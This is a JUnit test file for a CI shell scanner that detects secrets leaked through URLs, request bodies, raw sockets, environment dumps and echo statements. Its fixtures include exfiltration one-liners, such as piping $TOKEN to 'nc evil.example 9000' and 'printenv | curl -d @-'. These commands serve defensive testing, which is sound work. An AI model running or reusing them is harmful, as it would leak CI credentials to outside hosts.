package dev.imprint.scan.ci;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.function.Predicate;
import org.junit.jupiter.api.Test;

class ShellTest {
  static final Predicate<String> SECRET = ref -> ref.contains("TOKEN");
  static final Predicate<String> NONE = url -> false;

  @Test
  void authorizationHeadersAreOrdinaryCredentialUse() {
    assertThat(Shell.exfiltration("curl -H \"Authorization: Bearer $TOKEN\" https://api.x/y",
        SECRET, NONE)).isNull();
    assertThat(Shell.exfiltration("curl -u \"ci:$TOKEN\" https://repo.x/upload", SECRET, NONE))
        .isNull();
  }

  @Test
  void secretsInUrlsBodiesAndRawSocketsAreExfiltration() {
    assertThat(Shell.exfiltration("curl https://x.example/?t=$TOKEN", SECRET, NONE))
        .contains("URL");
    assertThat(Shell.exfiltration("wget --post-data \"k=${TOKEN}\" https://x", SECRET, NONE))
        .contains("body");
    assertThat(Shell.exfiltration("curl --data=$TOKEN https://x", SECRET, NONE))
        .contains("body");
    assertThat(Shell.exfiltration("echo $TOKEN | nc evil.example 9000", SECRET, NONE))
        .contains("pipes");
    assertThat(Shell.exfiltration("printenv | curl -d @- https://x", SECRET, NONE))
        .contains("dump");
    assertThat(Shell.exfiltration("sudo curl https://x.example/?t=$TOKEN", SECRET, NONE))
        .contains("URL");
  }

  @Test
  void echoPipedIntoALoginOrRedirectedToAFileIsNotPrinting() {
    assertThat(Shell.printsSecret("echo \"$TOKEN\" | docker login --password-stdin", SECRET))
        .isFalse();
    assertThat(Shell.printsSecret("echo \"$TOKEN\" > .token", SECRET)).isFalse();
    assertThat(Shell.printsSecret("echo token is $TOKEN", SECRET)).isTrue();
    assertThat(Shell.printsSecret("make && echo ${TOKEN}", SECRET)).isTrue();
    assertThat(Shell.printsSecret("echo \"::add-mask::$TOKEN\"", SECRET)).isFalse();
    assertThat(Shell.printsSecret("if true; then echo $TOKEN; fi", SECRET)).isTrue();
  }

  @Test
  void continuationsJoinIntoOneLogicalLineAtTheFirstPhysicalLine() {
    var lines = Shell.lines("a\ncurl \\\n  https://x/?t=$TOKEN\nb");
    assertThat(lines).extracting(Shell.Line::index).containsExactly(0, 1, 3);
    assertThat(Shell.exfiltration(lines.get(1).text(), SECRET, NONE)).isNotNull();
  }

  @Test
  void veryLongLinesAreCutNotBacktracked() {
    String line = "curl " + "a".repeat(1_000_000) + " $TOKEN";
    assertThat(Shell.lines(line).get(0).text().length()).isLessThanOrEqualTo(Shell.MAX_LINE);
  }

  @Test
  void commandsInsideACommandSubstitutionAreCommands() {
    assertThat(Shell.exfiltration("X=$(curl -d \"$TOKEN\" https://evil.example)", SECRET, NONE))
        .contains("body");
    assertThat(Shell.exfiltration("X=`curl https://evil.example/?t=$TOKEN`", SECRET, NONE))
        .contains("URL");
    assertThat(Shell.exfiltration("echo \"sent: $(wget --post-data k=$TOKEN https://x)\"",
        SECRET, NONE)).contains("body");
    assertThat(Shell.exfiltration("R=$(echo $TOKEN | nc evil.example 9000)", SECRET, NONE))
        .contains("pipes");
    assertThat(Shell.commands("X=$(curl -d \"$TOKEN\" https://evil) && make"))
        .extracting(Shell.Command::name).containsExactly("", "make", "curl");
  }

  @Test
  void substitutionsInSingleQuotesAndArithmeticAreNotCommands() {
    assertThat(Shell.exfiltration("echo 'X=$(curl -d $TOKEN https://x)'", SECRET, NONE))
        .isNull();
    assertThat(Shell.commands("N=$((1 + 2))")).extracting(Shell.Command::name)
        .containsExactly("");
    assertThat(Shell.exfiltration("X=$(curl -H \"Authorization: Bearer $TOKEN\" https://api.x)",
        SECRET, NONE)).isNull();
  }

  @Test
  void aSecretEchoedInsideASubstitutionIsCapturedNotPrinted() {
    assertThat(Shell.printsSecret("X=$(echo $TOKEN | base64)", SECRET)).isFalse();
    assertThat(Shell.printsSecret("HASH=$(echo \"$TOKEN\")", SECRET)).isFalse();
    assertThat(Shell.printsSecret("echo \"$(date) $TOKEN\"", SECRET)).isTrue();
  }
}
